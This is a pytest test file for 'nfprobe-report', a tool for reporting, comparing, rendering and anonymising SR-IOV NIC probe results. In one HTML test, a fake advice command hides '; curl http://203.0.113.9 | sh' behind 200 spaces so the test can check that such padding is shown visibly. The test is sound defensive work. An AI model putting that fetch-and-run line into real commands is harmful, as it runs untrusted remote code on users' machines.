    for name in ("junit", "nfd", "html", "prometheus"):
        done = stored(name)
        assert (done.returncode, done.stderr) == (3, "nfprobe-report: nothing is stored in store\n")
    assert "nfprobe_stale{device=\"eth0\",style=\"macvtap\"} 1.0" in done.stdout
    # Nothing is known of a PF that is not there, either, and a host without PFs is as little of an answer.
    for name in ("junit", "prometheus"):
        done = stored(name, "eth9")
        assert (done.returncode, done.stderr.splitlines()[0]) == (4, "nfprobe-report: there is no interface or device eth9")
    assert "nfprobe_stale{device=\"eth9\",style=\"\"} 1.0" in done.stdout
    save(folder / "host.json", HOST)
    for words in (("nfd",), ("junit", "-o", "out"), ("share",)):
        done = stored(*words)
        says = "nfprobe-report: this host has no SR-IOV PF\nDIAGNOSTICS in nfprobe(8) has the usual causes.\n"
        assert (done.returncode, done.stdout, done.stderr) == (4, "", says)
    assert not (folder / "out").exists()


@pytest.mark.slow
def test_sharing_what_is_stored(store, folder):
    """The newest result, whether or not it holds, and whatever its name; one that cannot be used is told."""
    newer = put(put(IGB, ("run", "start"), "2026-11-21T10:00:00.000Z"), ("run", "id"), "2" * 32)
    save(folder / "store/pci-0000:01:00.0/0.json", newer)
    (folder / "store/pci-0000:01:00.0/torn.json").write_text("{")
    for words in ((), ("eth0",), ("0000:01:00.0",), (IGB["vf"]["parentdev"],)):
        done = stored("share", "-o", "card.json", *words)
        assert (done.returncode, done.stdout) == (0, "")
        assert "cannot use store/pci-0000:01:00.0/torn.json: it is damaged" in done.stderr
        assert "nfprobe-report: of store/pci-0000:01:00.0/0.json\n" in done.stderr
        assert (folder / "card.json").read_text() == share.share(json.dumps(newer).encode()).text
    # The user must name one of two PFs that have results. Nothing can be shared of a PF that has none.
    other = {**store["pfs"][0], "ifname": "eth7", "parentdev": "0000:07:00.0"}
    save(folder / "host.json", {**store, "pfs": [store["pfs"][0], other]})
    assert stored("share").returncode == 0
    done = stored("share", "eth7")
    assert (done.returncode, done.stdout, done.stderr) == (3, "", "nfprobe-report: nothing is stored in store of eth7\n")
    (folder / "store/pci-0000:07:00.0").mkdir()
    save(folder / "store/pci-0000:07:00.0/1.json", put(IGB, ("pf", "parentdev"), "0000:07:00.0"))
    done = stored("share")
    assert (done.returncode, done.stderr) == (4, "nfprobe-report: results of eth0, eth7 are stored: name one of them\n")
    assert stored("share", "eth0", "eth7").returncode == 2
    assert stored("share", "eth7").returncode == 0
    assert stored("share", "eth9").returncode == 4


# ---- labels: one host, and one place for each VF and style ----

def test_of_several_results_the_newest_counts():
    newer = put(IGB, ("run", "start"), "2026-11-21T10:00:00.000Z")
    newer["vf"]["styles"][0]["verdict"] = "deaf"
    newer["exit"] = 0
    for documents in ((IGB, newer), (newer, IGB)):
        assert "nfprobe.eth0.macvtap=deaf" in write("nfd", *documents)
        samples = [line for line in write("prometheus", *documents).splitlines() if line.startswith("nfprobe_")]
        assert len(samples) == len({line.rsplit(" ", 1)[0] for line in samples})
        assert 'nfprobe_exit_status{device="eth0"} 1.0' in samples
    other = put(IGB, ("run", "host"), "hv2")
    for name in ("nfd", "prometheus"):
        with pytest.raises(Failure, match="several hosts"):
            write(name, IGB, other)


def test_hosts_are_told_apart(folder):
    """CI systems tell tests by their names: GitLab by suite, class and name. One host needs none."""
    for name in ("hv1", "hv2"):
        save(folder / f"{name}.json", put(IGB, ("run", "host"), name))
    one, two = (ElementTree.fromstring(report("junit", *files).stdout) for files in (["hv1.json"], ["hv1.json", "hv2.json"]))
    assert [suite.get("name") for suite in one] == ["eth0 VF 3 macvtap", "eth0 VF 3 bridge"]
    assert [suite.get("name") for suite in two] == [f"{host} eth0 VF 3 {style}" for host in ("hv1", "hv2")
                                                    for style in ("macvtap", "bridge")]
    keys = [(suite.get("name"), case.get("classname"), case.get("name")) for suite in two for case in suite.iter("testcase")]
    assert len(set(keys)) == len(keys) and keys[0][1] == "hv1.eth0.VF3.macvtap"
    # Whatever a host is called.
    save(folder / "hv2.json", put(IGB, ("run", "host"), '"><a>&#10;'))
    suites = ElementTree.fromstring(report("junit", "hv1.json", "hv2.json").stdout)
    assert suites[2].get("name").endswith(" eth0 VF 3 macvtap")


def test_the_reason_is_in_the_text_of_each_element(folder):
    """GitLab and Buildkite drop the attribute."""
    suites = ElementTree.fromstring(report("junit", "a.json").stdout)
    found = [part for part in suites.iter() if part.tag in ("failure", "error", "skipped")]
    assert found and all((part.text or "").startswith(part.get("message") + "\n") for part in found)


# ---- compare ----

def comparison(new, old=IGB, same=False):
    return compare.compare(parse(old), parse(new), same)


def newer_kernel(base=IGB):
    """The drivers come with it."""
    new = put(put(base, ("run", "kernel"), "6.13"), ("pf", "driver_version"), "6.13")
    return put(new, ("vf", "driver_version"), "6.13")


def style(document, number=0):
    return document["vf"]["styles"][number]


def test_nothing_changed():
    found = comparison(newer_kernel())
    assert (found.exit_status, found.differences, found.changes) == (0, (), ("kernel was 6.12.95, is 6.13",))
    assert comparison(copy.deepcopy(IGB), same=True).exit_status == 0


@pytest.mark.parametrize("was, now, allowed, trend, exit_status", [
    ("safe", "early", False, "worse", 1), ("safe", "early", True, "worse", 0), ("early", "safe", False, "better", 0),
    ("early", "sticky", False, "better", 0), ("safe", "unknown", False, "changed", 3), ("safe", "unknown", True, "changed", 0),
    ("unknown", "safe", False, "better", 0), ("unknown", "deaf", False, "worse", 1)])
def test_verdicts(was, now, allowed, trend, exit_status):
    old, new = copy.deepcopy(IGB), newer_kernel()
    style(old)["verdict"] = was
    style(new).update(verdict=now, allowed=allowed)
    found = comparison(new, old)
    assert ([d.trend for d in found.differences], found.exit_status) == ([trend], exit_status)
    assert (found.differences[0].before, found.differences[0].now) == (was, now)


def test_landings_and_gaps():
    new = newer_kernel()
    step = next(step for step in style(new)["steps"] if step["state"] == "unplug")
    step.update(answer="no")
    step["frames"]["unicast"].update(landing="nowhere", pf=0, lost=1500)
    style(new)["transitions"][-1].update(gap_us=900_000)
    found = comparison(new)
    assert [(d.compared, d.words(), d.before, d.now, d.trend) for d in found.differences] == [
        ("landing", "unplug", "pf", "nowhere", "worse"), ("gap", "attach to up", "312.0 ms", "900.0 ms", "worse")]
    assert found.exit_status == 1
    # What proves nothing may have been the network's doing, and so may these.
    style(new)["verdict"] = "unknown"
    assert comparison(new).exit_status == 3
    # Within the tolerance of a VF, or of the uncertainty.
    for change in ({"gap_us": 800_000}, {"gap_us": 900_000, "gap_error_us": 600_000}):
        new = newer_kernel()
        style(new)["transitions"][-1].update(change)
        assert comparison(new).differences == ()


def test_styles_of_one_result():
    new = newer_kernel()
    del new["vf"]["styles"][1]
    assert [(d.style, d.trend) for d in comparison(new).differences] == [("bridge", "gone")]
    found = comparison(newer_kernel(), {**copy.deepcopy(IGB), "vf": new["vf"]})
    assert ([(d.style, d.trend, d.now) for d in found.differences], found.exit_status) == ([("bridge", "new", "early")], 1)


def test_a_fix_is_the_style_that_it_is():
    """Whether it was asked for or not, it had a ladder."""
    old, asked = newer_kernel(), newer_kernel()
    style(old, 1).update(fix="pin")
    style(asked, 1).update(style="bridge+pin")
    assert comparison(asked, {**old, "run": IGB["run"]}).differences == ()
    old["vf"]["styles"][1]["verdict"] = "safe"
    assert [(d.style, d.trend) for d in comparison(asked, {**old, "run": IGB["run"]}).differences] == [("bridge+pin", "worse")]
    both = copy.deepcopy(old)
    both["vf"]["styles"][1].update(verdict="deaf")
    assert comparison(both, {**old, "run": IGB["run"]}).differences == ()  # a run may have it or not


@pytest.mark.parametrize("same", (False, True))
def test_the_last_line_and_the_status_agree(same):
    """Whatever two results differ in."""
    words = {0: ("no difference", "nothing is worse", "repeatable: no difference counts", "the same, as far as"),
             1: ("worse: ", "not repeatable: "),
             3: ("not known whether ",)}
    seen = set()
    for seed in range(200):
        some = tool.random_of(seed)
        old, new = copy.deepcopy(IGB), copy.deepcopy(IGB) if same else newer_kernel()
        for document in (old, new):
            for one in document["vf"]["styles"]:
                one.update(verdict=some.choice(VERDICTS), allowed=some.random() < 0.3,
                           fix=some.choice([None, None, "pin"]) if one["style"] == "bridge" else None)
            del document["vf"]["styles"][:some.choice([0, 0, 0, 1])]
        found = comparison(new, old, same=same)
        said = compare.summary(found)
        if not found.not_compared:
            assert said.startswith(words[found.exit_status]), (seed, said)
            seen.add(found.exit_status)
    assert seen == {0, 1, 3}


def test_repeatability():
    new = copy.deepcopy(IGB)
    style(new)["steps"][2]["frames"]["unicast"]["landing"] = "mixed"
    found = comparison(new, same=True)
    assert ([d.trend for d in found.differences], found.exit_status) == (["unstable"], 1)


def said_of(new, old=IGB, **options):
    out = io.StringIO()
    then, now = parse(old), parse(new)
    found = compare.compare(then, now, **{"same": False, **options})
    compare.write_text(then, now, found, out)
    return out.getvalue().splitlines(), found.exit_status


def test_what_is_the_same_is_said():
    """A job that passes says what it has found."""
    lines, status = said_of(newer_kernel())
    assert (lines[-1][:24], status) == ("no difference: macvtap S", 0) and lines[-1].endswith(", bridge EARLY, in both")
    worse = newer_kernel()
    style(worse).update(verdict="sticky")
    lines, status = said_of(worse)
    assert (lines[-2:], status) == (["the same in both: bridge EARLY", "worse: 1 of 1"], 1)


def test_what_only_the_new_one_asked_is_no_difference():
    new = copy.deepcopy(IGB)
    new["vf"]["styles"].append({**copy.deepcopy(style(new, 1)), "style": "static-bridge"})
    lines, status = said_of(new, same=True)
    assert (lines[-1], status) == ("the same, as far as both were asked; only in new: static-bridge EARLY", 0)
    # Where something was updated, a new verdict that is not safe counts.
    assert said_of({**newer_kernel(), "vf": new["vf"]})[1] == 1


def test_or_same():
    """The job of a pipeline, most of whose runs change no version."""
    assert comparison(copy.deepcopy(IGB)).exit_status == 3
    assert said_of(copy.deepcopy(IGB), or_same=True)[1] == 0
    assert said_of(newer_kernel(), or_same=True)[1] == 0
    new = copy.deepcopy(IGB)
    style(new)["verdict"] = "sticky"
    assert said_of(new, or_same=True)[1] == 1


def test_multicast_that_only_one_tested():
    old, new = copy.deepcopy(IGB), newer_kernel()
    for step in style(old)["steps"]:
        step["frames"]["multicast"].update(landing=None, sent=0, lost=0)
    style(new).update(verdict="deaf", multicast="lost")
    for step in style(new)["steps"]:
        if step["state"] == "unplug":
            step["answer"] = "no"
            step["frames"]["multicast"].update(landing="nowhere")
    assert comparison(new, old).differences == ()
    assert comparison(new).exit_status == 1


@pytest.mark.parametrize("change, why", [
    (lambda d: d, "driver, firmware and kernel are the same in both"),
    (lambda d: put(d, ("vf", "vf"), 4), "they are of two VFs (3 and 4)"),
    (lambda d: put(d, ("vf", "probed_vlan"), 7), "one run was on a VLAN"),
    (lambda d: put(d, ("pf", "device"), "0x1592"), "two kinds of NIC"),
    (lambda d: put(d, ("vf",), None), "the new result has no verdict"), (lambda d: put(d, ("restored",), False), "counts for nothing"),
    (lambda d: put(d, ("source", "kind"), "vf"), "from another source then (wire, now vf)")])
def test_not_comparable(change, why):
    found = comparison(change(copy.deepcopy(IGB) if "same in both" in why else newer_kernel()))
    assert why in found.not_compared and found.exit_status == 3


def test_what_really_sent():
    """Two sources of one class show different things, which is told."""
    new = newer_kernel()
    new["source"].update({"from": "arp:192.0.2.1", "by": "arp"})
    assert comparison(new).changes[-1] == "frames came from eth1 (netdev), now from arp:192.0.2.1 (arp)"


@pytest.mark.slow
def test_compare_command(folder):
    new = newer_kernel()
    style(new).update(verdict="sticky")
    save(folder / "b.json", new)
    done = report("compare", "a.json", "b.json")
    assert done.returncode == 1 and re.search(r"^macvtap +verdict +safe +sticky +WORSE$", done.stdout, re.MULTILINE)
    assert done.stdout.endswith("worse: 1 of 1\n")
    document = json.loads(report("compare", "--json", "a.json", "b.json").stdout)
    assert (document["worse"], document["exit"], document["differences"][0]["trend"]) == (True, 1, "worse")
    tool.valid("compare", document)
    tool.valid("compare", json.loads(report("compare", "--json", "a.json", "a.json").stdout))
    done = report("compare", "a.json", "nosuch")
    assert (done.returncode, done.stderr) == (4, "nfprobe-report: cannot use nosuch: No such file or directory\n")


@pytest.mark.slow
@pytest.mark.parametrize("files, why", ((("a.json", "nosuch"), "cannot use nosuch: No such file or directory"),
                                        (("-", "-"), "only one of the two can be standard input")))
def test_compare_that_fails_as_json(folder, files, why):
    done = report("compare", "--json", *files)
    document = json.loads(done.stdout)
    tool.valid("compare", document)
    assert (done.returncode, done.stderr) == (4, f"nfprobe-report: {why}\n")
    assert (document["exit"], document["not_compared"], document["worse"]) == (4, why, False)
    assert document["error"] == {"code": "input", "message": why, "hint": None}
    done = report("compare", "--json", "-o", "out.json", *files)
    assert (done.stdout, json.loads((folder / "out.json").read_text())) == ("", document)


# ---- commands on a page ----

def test_commands_of_others_have_no_button_and_hide_nothing():
    """Blanks would push what follows out of sight of who copies it."""
    document = copy.deepcopy(IGB)
    hidden = "ip link set eth0 up" + " " * 200 + "; curl http://203.0.113.9 | sh"
    document["advice"] = [tool.advice("Set it up", document=hidden)]
    for own in (False, True):
        out = io.BytesIO()
        page.write_html([subject_of(parse(document))._replace(own=own)], out)
        text = out.getvalue().decode()
        assert (hidden.replace(" " * 200, "\u2423" * 200) in text, hidden in text) == (not own, own)
        assert ("<button" in text, 'class="command foreign"' in text) == (own, not own)


@pytest.mark.parametrize("args, own", ((("--stored",), True), (("--stored", "--host=host.json"), False),
                                       (("--stored", "--store=other"), False), (("a.json",), False)))
def test_only_the_store_of_this_host_is_its_own(args, own):
    assert tools_report.is_own(tools_report.parse_options(["html", *args])) == own


# ---- share ----

SECRETS = ("hv1", "eth0", "eth1", "52:54:00", "02:11:22", "acme", "198.51.100.7", "SN4711", "secret")


def secretive():
    document = copy.deepcopy(PEER)
    document["run"]["kernel"] = "6.12.0-acme1"
    document["pf"].update(firmware="2.1.0 (eth0)", master="br-acme", master_kind="bridge")
    document["pf"]["firmware_versions"] = [{"name": "fw", "running": "1.3", "stored": "1.3 of acme1", "serial": "SN4711"}]
    document["settings"]["from"] = "arp:198.51.100.7"
    document["source"].update({"from": "arp:198.51.100.7", "by": "arp", "note": "198.51.100.7"})
    for one in document["vf"]["styles"]:
        one.update(reason="acme")
        one["steps"][0].update(note="eth0 acme", hint="secret")
    document.update(warnings=["acme"], answer="eth0 of acme", extra={"acme": "secret"}, left_behind=["secret"],
                    error={"code": "kernel", "message": "acme", "hint": "secret"})
    document["run"]["host"] = "acme1"
    return document


def test_nothing_of_the_host_is_left():
    shared = share.share(json.dumps(secretive()).encode())
    for secret in SECRETS:
        assert secret not in shared.text, secret
    assert len(shared.text) < share.SHARED_BYTES and "time of the run: 2026-11-20T10:00:00.123Z" in shared.contains


@pytest.mark.slow
@pytest.mark.parametrize("text, kept", [
    ("6.12.95-amd64", True), ("5.14.0-427.13.1.el9_4.x86_64", True), ("9.20 0x8000d8c5 22.0.9", True), ("22.31.1014 (MT_0000000359)", True),
    ("218.0.219.13/pkg 218.0.221.0", True), ("1.3.36.0", True), ("fw:8.0.0.1015 rx1 tx1", True), ("1.63, 0x800009fa", True),
    ("0.0.0.7", True),
    ("52:54:00:5e:c7:e7", False), ("v52-54-00-5E-C7-E7", False), ("1.2 5254.00aa.bbcc", False), ("x525400AAbbcc", False),
    ("192.0.2.177", False), ("6.1-10.20.30.40-x", False), ("fe80::1", False), ("2001:db8:0:1", False), ("1.2_100.64.3.4", False),
    ("6.12-hv1-prod", False), ("6.12hv1", False), ("HV1.PROD", False), ("6.12-ENS5F0", False), ("6.12-prod", False),
    ("1.770.2", False), ("1.7701.2", True),
])
def test_versions_that_name_the_host(text, kept):
    """What was built there may have the name of the host, of a netdev, or an address in its version."""
    document = copy.deepcopy(IGB)
    document["run"].update(host="HV1-PROD-770", kernel=text)
    document["pf"].update(ifname="ens5f0", address="52:54:00:aa:bb:cc", firmware=text, driver_version=text, board_id=text)
    shared = json.loads(share.share(json.dumps(document).encode()).text)
    expected = text if kept else None
    assert [shared["run"]["kernel"], *(shared["pf"][key] for key in ("firmware", "driver_version", "board_id"))] == [expected] * 4


def test_what_is_shared_says_the_same():
    document = json.loads(share.share(json.dumps(PEER).encode()).text)
    shared = parse(document)
    result = parse(PEER)
    assert [(s.style, s.verdict, s.multicast, s.transitions) for s in shared.styles] == \
        [(s.style, s.verdict, s.multicast, s.transitions) for s in result.styles]
    ours, theirs = ([step._replace(note="") for step in one.styles[1].steps] for one in (shared, result))
    assert ours == theirs
    assert (shared.life, shared.verdict, shared.exit) == (result.life, result.verdict, result.exit)
    assert document["vf"]["requires"] == PEER["vf"]["requires"]
    for name in ("igb.json", "reflector.json", "odd.json", "error.json"):
        tool.valid("result", json.loads(share.share(json.dumps(tool.golden(name)).encode()).text))
    # One address is one address everywhere.
    assert len({place["address"] for place in (document["pf"], document["vf"], document["vf"]["styles"][0])}) == 3
    assert (shared.settings.source, shared.source.name) == ("peer:n3", "peer:n3")


@pytest.mark.slow
def test_share_command(folder):
    done = report("share", "a.json", "-o", "public.json")
    assert (done.returncode, done.stdout) == (0, "") and "replaced: " in done.stderr
    assert done.stderr.endswith("nfprobe-report: send it, with the name of the card: REPORTING A CARD in nfprobe-recipes(7)\n")
    assert report("junit", "public.json").returncode == 0
    save(folder / "torn.json", json.dumps(IGB)[:-9])
    done = report("share", "torn.json", "-o", "public.json")
    assert (done.returncode, done.stderr) == (4, "nfprobe-report: cannot use torn.json: it is damaged, or not JSON\n")
    large = copy.deepcopy(IGB)
    large["vf"]["styles"] = [{**style(large), "style": name} for name in rules.STYLES] * 5
    save(folder / "large.json", large)
    done = report("share", "large.json")
    assert (done.returncode, done.stdout) == (4, "") and "larger than 100 kB" in done.stderr


# ---- any bytes ----

def mutate(rng, data):
    """A valid file, broken as fuzzers do: bytes, pieces, and values of JSON."""
    data = bytearray(data)
    for _ in range(rng.choice((1, 1, 2, 5))):
        at, length = rng.randrange(len(data) + 1), rng.randrange(40)
        how = rng.randrange(5)
        if how == 0 and at < len(data):
            data[at] = rng.randrange(256)
        elif how == 1:
            del data[at:at + length]
        elif how == 2:
            data[at:at] = data[at // 2:at // 2 + length]
        elif how == 3:
            spans = [m.span() for m in re.finditer(rb'(?<=: )("[^"]*"|[0-9.]+|true|false|null)', data)]
            if spans:
                start, end = rng.choice(spans)
                data[start:end] = rng.choice((b"null", b"-1", b"1e999", b"NaN", b"{}", b"[]", b'"\\ud800\\u0000\\u001b"', b"true",
                                              b"9" * 30, b"0.5", b'"' + b"x" * 300 + b'"', b'"early"', b"[[[[]]]]", b"0",
                                              json.dumps(rng.choice(HOSTILE)).encode()))
        else:
            data = data[:at]
    return bytes(data)


@pytest.mark.slow
def test_whatever_a_file_contains():
    """NFPROBE_FUZZ_SECONDS and NFPROBE_FUZZ_SEED: for longer, or again."""
    seed = int(os.environ.get("NFPROBE_FUZZ_SEED", 1))
    seconds = float(os.environ.get("NFPROBE_FUZZ_SECONDS", "3"))
    rng = random.Random(seed)
    samples = [json.dumps(d).encode() for d in (PEER, *map(tool.golden, ("odd.json", "error.json")))]
    old, end, number, taken = parse(IGB), time.monotonic() + seconds, 0, 0
    while time.monotonic() < end:
        data = mutate(rng, rng.choice(samples))
        number += 1
        try:
            with tool.in_time():
                result = reading.parse(data, "x.json")
                taken += 1
                for name, write_it in FORMATS.items():
                    out = io.BytesIO()
                    write_it([subject_of(result)], out)
                    assert is_plain(out.getvalue().decode()), name
                out = io.StringIO()
                compare.write_text(old, result, compare.compare(old, result, False), out)
                table = matrix.Matrix()
                table.add(result)
                table.finish((0, 1), set())
                matrix.write_text(table, texts.Writer(out, 80, False), verbose=True)
                assert is_plain(out.getvalue())
                share.share(data)
        except (reading.InputError, reading.Damaged):
            continue
        except Exception:
            print(f"NFPROBE_FUZZ_SEED={seed}, input {number}: {data!r}")
            raise
    print(f"{number} inputs, {taken} of them taken, seed {seed}")
    assert taken
